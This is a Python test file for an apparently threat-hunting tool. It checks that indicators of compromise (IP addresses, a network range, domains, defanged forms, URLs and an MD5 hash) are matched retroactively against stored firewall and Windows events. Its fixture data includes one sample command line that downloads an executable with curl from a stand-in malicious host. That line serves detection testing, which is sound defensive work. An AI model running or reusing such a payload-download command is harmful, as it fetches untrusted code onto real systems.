"""An indicator is found back in time wherever the stream would have met it."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

import pytest
from tests.stores.hunting import NOW

from hinomi.columns.batch import to_table
from hinomi.columns.groups import Extent, read_groups
from hinomi.columns.parquet import write_parquet
from hinomi.core.errors import UsageError
from hinomi.core.records import Event
from hinomi.detect.intel.finder import reference_find
from hinomi.normalise import declared_fields
from hinomi.pipeline.findings import Versions
from hinomi.pipeline.hunt_indicators import IndicatorQuarry, named_indicators, read_indicators
from hinomi.pipeline.intel.looks import look_of

if TYPE_CHECKING:
    from pathlib import Path

MD5 = "d41d8cd98f00b204e9800998ecf84270"
SENT: dict[str, tuple[str, dict[str, str]]] = {
    "address": ("fortigate", {"srcip": "192.168.1.5", "dstip": "203.0.113.9"}),
    "network": ("fortigate", {"srcip": "192.168.1.5", "dstip": "203.0.113.77"}),
    "below the domain": ("fortigate", {"hostname": "login.evil.example", "url": "/start"}),
    "another domain": ("fortigate", {"hostname": "notevil.example"}),
    "a page": ("fortigate", {"hostname": "evil.example", "url": "/drop/a.exe?x=1"}),
    "hash": ("windows", {"Hashes": f"MD5={MD5.upper()},IMPHASH=00", "Image": "C:\\a.exe"}),
    "in a command": ("windows", {"CommandLine": "curl http://evil.example/drop/a.exe -o a"}),
    "private": ("fortigate", {"srcip": "192.168.1.5"}),
    "quiet": ("windows", {"Image": "C:\\Windows\\notepad.exe"}),
}
ASKED = {
    "203.0.113.9": {"address"},
    "203.0.113.64/26": {"network"},
    "203[.]0[.]113[.]9": {"address"},
    "evil.example": {"below the domain", "a page", "in a command"},
    "hxxp://evil.example/drop/a.exe": {"a page", "in a command"},
    MD5: {"hash"},
    "192.168.1.5": {"address", "network", "private"},
    "nowhere.example": set(),
}


def events() -> list[Event]:
    return [
        Event(
            event_id=name,
            organisation="org_aoi",
            source="src_1",
            shape=shape,
            device="PC-1",
            event_time=NOW - timedelta(days=3),
            receive_time=NOW - timedelta(days=3),
            fields=fields,
            raw=b"",
        )
        for name, (shape, fields) in SENT.items()
    ]


@pytest.mark.parametrize("has_columns", [True, False])
@pytest.mark.parametrize("asked", ASKED)
def test_an_indicator_is_found_where_the_specification_finds_it(
    asked: str, has_columns: bool, tmp_path: Path
) -> None:
    known = named_indicators(read_indicators([asked]))
    quarry = IndicatorQuarry(known, versions=Versions(), aliases={}, found_at=NOW)
    found: set[str] = set()
    for shape in ("fortigate", "windows"):
        mine = [event for event in events() if event.shape == shape]
        declared = declared_fields(shape) if has_columns else ()
        path = tmp_path / f"{shape}.parquet"
        write_parquet([to_table(mine, declared=declared, shape=shape)], path)
        for _, group in read_groups(path, extent=Extent(frozenset({"org_aoi"}))):
            for record in group.records(quarry.candidates(group)):
                assert isinstance(record, Event)
                for finding in quarry.find([record]):
                    assert finding.late, "nobody can be asked to act on it at once"
                    assert finding.why[0].value
                    found.add(record.event_id)
    by_specification = {
        event.event_id for event in events() if reference_find(known, look_of, event)
    }
    assert found == by_specification == ASKED[asked]


def test_a_file_of_indicators_is_read_in_any_form(tmp_path: Path) -> None:
    path = tmp_path / "list.txt"
    path.write_text("# from a partner\nevil.example\n203.0.113.9\n203.0.113.9\n")
    assert read_indicators([str(path), "evil.example"]) == (
        "domain:evil.example",
        "ip:203.0.113.9",
    )


@pytest.mark.parametrize("text", ["no indicator", "", "http://", "x" * 5_000])
def test_what_is_no_indicator_is_refused(text: str) -> None:
    with pytest.raises(UsageError):
        read_indicators([text])
